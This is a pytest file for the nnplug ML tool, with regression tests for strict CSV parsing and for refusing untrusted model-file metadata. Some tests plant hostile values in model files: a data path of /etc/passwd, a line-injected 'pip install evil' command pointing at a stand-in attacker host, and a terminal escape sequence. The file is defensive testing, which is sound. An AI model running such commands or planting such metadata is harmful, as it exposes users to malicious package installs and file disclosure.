"""Issue 11, "wrong answers without a word" and "a model file must not steer the machine";
issue 10, evaluate on a foreign split."""
from __future__ import annotations

import csv
import io
import json

import numpy as np
import pytest

import nnplug
from hostile import model_parts, write_model
from idxfiles import fake_mnist
from nnplug.errors import NNPlugError
from nnplug_datasets.tabular import CSV

FAST = ["--hidden", "8", "--epochs", "1", "--quiet", "--log-file", ""]


def write_rows(path, header, rows):
    path.write_text("\n".join([",".join(header), *(",".join(map(str, r)) for r in rows)]) + "\n")
    return path


def test_huge_integral_labels_stay_three_classes(tmp_path):
    """Labels 0, 1e20, 2e20 became two classes (-9223372036854775808 and 0)."""
    rows = [[i, ("0", "1e20", "2e20")[i % 3]] for i in range(60)]
    data = CSV(data=str(write_rows(tmp_path / "d.csv", ["a", "y"], rows)),
               target="y").load(seed=0)
    assert data.task == "classification"
    assert data.classes == ["0", "100000000000000000000", "200000000000000000000"]
    y = np.concatenate([data.y_train, data.y_val, data.y_test])
    assert np.bincount(y).tolist() == [20, 20, 20]


@pytest.mark.parametrize("cell", ["١٢", "１２", "1_000", "\u200912"])
def test_non_ascii_digits_and_underscores_are_not_numbers(tmp_path, cell):
    rows = [[cell if i == 3 else i, i % 2] for i in range(20)]
    path = write_rows(tmp_path / "d.csv", ["a", "y"], rows)
    with pytest.raises(NNPlugError) as info:
        CSV(data=str(path), target="y").load()
    assert f"line 5, column 'a': non-numeric value {cell!r}" in str(info.value)


def test_predict_reads_csv_numbers_strictly(cli, model_dir, tmp_path):
    (tmp_path / "x.csv").write_text(",".join(["1"] * 64) + "\n" +
                                    ",".join(["1"] * 63 + ["１２"]) + "\n")
    res = cli("predict", "--model", model_dir / "model.npz", "--input", tmp_path / "x.csv")
    assert res.exit_code == 1 and "x.csv: line 2, column 64: non-numeric value '１２'" in res.stderr


def test_text_labels_that_look_numeric_to_python_stay_text(tmp_path):
    rows = [[i, ("1_000", "٣")[i % 2]] for i in range(40)]
    data = CSV(data=str(write_rows(tmp_path / "d.csv", ["a", "y"], rows)),
               target="y").load(seed=0)
    assert data.task == "classification" and data.classes == ["1_000", "٣"]


def test_nan_weights_are_refused(model_dir, tmp_path):
    meta, arrays = model_parts(model_dir / "model.npz")
    key = next(k for k in arrays if k.endswith(".W"))
    arrays[key] = arrays[key].copy()
    arrays[key][0, 0] = np.inf
    write_model(tmp_path / "m.npz", meta, arrays)
    with pytest.raises(NNPlugError, match="non-finite values"):
        nnplug.load(tmp_path / "m.npz")


def test_evaluate_never_follows_the_data_dir_of_a_model_file(cli, tmp_path, monkeypatch):
    """evaluate followed data_dir from the file, creating directories and reading there."""
    fake_mnist(tmp_path / "mine", n_train=40, n_test=20, side=8)
    res = cli("train", "--dataset", "mnist", "--data-dir", tmp_path / "mine", *FAST,
              "--save", tmp_path / "mnist.npz")
    assert res.exit_code == 0, res.output
    meta, arrays = model_parts(tmp_path / "mnist.npz")
    meta["training"]["data_dir"] = str(tmp_path / "elsewhere" / "deep")
    write_model(tmp_path / "mnist.npz", meta, arrays)
    monkeypatch.setenv("XDG_CACHE_HOME", str(tmp_path / "cache"))
    res = cli("evaluate", "--model", tmp_path / "mnist.npz")
    assert res.exit_code == 1 and "elsewhere" not in res.stderr, res.output
    assert not (tmp_path / "elsewhere").exists()
    res = cli("evaluate", "--model", tmp_path / "mnist.npz", "--data-dir", tmp_path / "mine")
    assert res.exit_code == 0 and res.stdout.startswith("mnist: test_accuracy"), res.output
    assert not (tmp_path / "elsewhere").exists()


def test_evaluate_never_reads_a_data_file_named_by_a_model_file(cli, tmp_path):
    rng = np.random.default_rng(0)
    rows = [[*rng.normal(size=3).round(4), i % 2] for i in range(80)]
    write_rows(tmp_path / "d.csv", ["a", "b", "c", "y"], rows)
    res = cli("train", "--dataset", "csv", "--data", tmp_path / "d.csv", "--target", "y",
              *FAST, "--save", tmp_path / "m.npz")
    assert res.exit_code == 0, res.output
    meta, arrays = model_parts(tmp_path / "m.npz")
    meta["training"]["dataset_options"]["data"] = "/etc/passwd"
    write_model(tmp_path / "m.npz", meta, arrays)
    res = cli("evaluate", "--model", tmp_path / "m.npz")
    assert res.exit_code == 1 and "pass that file (or another) with --data FILE" in res.stderr
    assert "passwd" not in res.stderr
    res = cli("evaluate", "--model", tmp_path / "m.npz", "--data", tmp_path / "d.csv")
    assert res.exit_code == 0 and res.stdout.startswith("csv: test_accuracy"), res.output


def test_names_from_a_file_are_printed_as_one_short_line(cli, model_dir, tmp_path):
    """A dist with a newline printed an attacker's multi-line pip install hint."""
    meta, arrays = model_parts(model_dir / "model.npz")
    meta["layers"][1].update(name="swish", plugin="swishes\x1b[2J", version="1\n2",
                             dist="x\nWARNING: run: pip install evil --index-url http://e.vil",
                             options={})
    write_model(tmp_path / "m.npz", meta, arrays)
    res = cli("evaluate", "--model", tmp_path / "m.npz")
    assert res.exit_code == 1 and res.stderr.count("\n") == 1, res.stderr
    assert "\x1b" not in res.stderr and "install it with" not in res.stderr
    assert len(res.stderr) < 400
    meta["layers"][1]["dist"] = "nnplug-swish"
    write_model(tmp_path / "m.npz", meta, arrays)
    res = cli("evaluate", "--model", tmp_path / "m.npz")
    assert "install it with: pip install nnplug-swish" in res.stderr


def test_evaluate_refuses_another_split_of_the_training_data(cli, model_dir, tmp_path):
    """evaluate --seed 1 on a seed-42 model scored rows it trained on (accuracy 1.0000)."""
    for args, flag in ((["--seed", "1"], "--seed 42"), (["--val-fraction", "0.3"],
                                                       "--val-fraction 0.1")):
        res = cli("evaluate", "--model", model_dir / "model.npz", *args)
        assert res.exit_code == 1 and res.stderr.count("\n") == 1, res.output
        assert f"was trained on digits with {flag}" in res.stderr
        assert "would score rows the model was trained on" in res.stderr
    same = cli("evaluate", "--model", model_dir / "model.npz", "--seed", "42", "--json")
    m = json.loads((model_dir / "metrics.json").read_text())
    assert json.loads(same.stdout)["value"] == m["test_accuracy"]


def test_evaluate_with_explicit_data_takes_any_seed(cli, tmp_path):
    rng = np.random.default_rng(1)
    rows = [[*rng.normal(size=2).round(4), i % 2] for i in range(80)]
    write_rows(tmp_path / "d.csv", ["a", "b", "y"], rows)
    res = cli("train", "--dataset", "csv", "--data", tmp_path / "d.csv", "--target", "y",
              *FAST, "--save", tmp_path / "m.npz")
    assert res.exit_code == 0, res.output
    res = cli("evaluate", "--model", tmp_path / "m.npz", "--seed", "7")
    assert res.exit_code == 1 and "with --seed 42" in res.stderr
    res = cli("evaluate", "--model", tmp_path / "m.npz", "--seed", "7", "--data",
              tmp_path / "d.csv")
    assert res.exit_code == 0, res.output


def test_predictions_of_a_model_trained_on_huge_labels_name_them(cli, tmp_path):
    rows = [[i % 3 + 0.1 * (i % 5), ("0", "1e20", "2e20")[i % 3]] for i in range(90)]
    write_rows(tmp_path / "d.csv", ["a", "y"], rows)
    res = cli("train", "--dataset", "csv", "--data", tmp_path / "d.csv", "--target", "y",
              *FAST, "--save", tmp_path / "m.npz")
    assert res.exit_code == 0, res.output
    (tmp_path / "x.csv").write_text("a\n0\n2\n")
    res = cli("predict", "--model", tmp_path / "m.npz", "--input", tmp_path / "x.csv")
    header = next(csv.reader(io.StringIO(res.stdout)))
    assert header == ["class", "p_0", "p_100000000000000000000", "p_200000000000000000000"]


def test_odd_but_legal_names_still_round_trip(cli, tmp_path):
    """Header checks must not refuse real models: a target column and class names holding
    a tab (quoted CSV cells) save, load, predict and evaluate."""
    labels = ("x\ty", "z")
    rows = [f'{i % 5},"{labels[i % 2]}"' for i in range(60)]
    (tmp_path / "d.csv").write_text('a,"t\tgt"\n' + "\n".join(rows) + "\n")
    res = cli("train", "--dataset", "csv", "--data", tmp_path / "d.csv", "--target", "t\tgt",
              *FAST, "--save", tmp_path / "m.npz")
    assert res.exit_code == 0, res.output
    assert nnplug.load(tmp_path / "m.npz").classes == ["x\ty", "z"]
    res = cli("evaluate", "--model", tmp_path / "m.npz", "--data", tmp_path / "d.csv")
    assert res.exit_code == 0, res.output
    res = cli("train", "--dataset", "csv", "--data", tmp_path / "d.csv", "--target", "t\ngt",
              *FAST)
    assert res.exit_code == 1 and res.stderr.count("\n") == 1
    assert "no column 't gt' for --target" in res.stderr  # one_line: breaks become spaces
